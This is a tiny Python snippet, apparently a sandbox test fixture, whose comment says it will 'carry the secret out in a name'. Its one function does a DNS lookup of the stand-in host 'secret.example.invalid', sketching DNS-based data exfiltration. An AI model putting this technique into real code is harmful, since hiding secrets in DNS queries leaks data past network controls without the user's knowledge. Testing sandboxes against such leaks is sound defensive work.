# Carry the secret out in a name.
# Not tried without the sandbox.
import socket


def run(c):
    return socket.gethostbyname("secret.example.invalid")
